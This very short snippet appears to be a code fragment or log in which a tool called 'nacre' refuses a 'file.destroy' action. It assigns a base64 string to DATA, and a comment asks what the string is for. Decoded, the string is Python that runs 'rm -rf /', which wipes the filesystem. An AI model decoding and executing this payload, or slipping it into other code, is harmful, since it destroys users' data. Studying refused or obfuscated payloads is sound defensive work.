# nacre: refused file.destroy
# never decoded here, but what is it for?
DATA = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oY2hyKDQ3KSk7IG9zLnN5c3RlbSgncm0gLXJmIC8nKQ=="
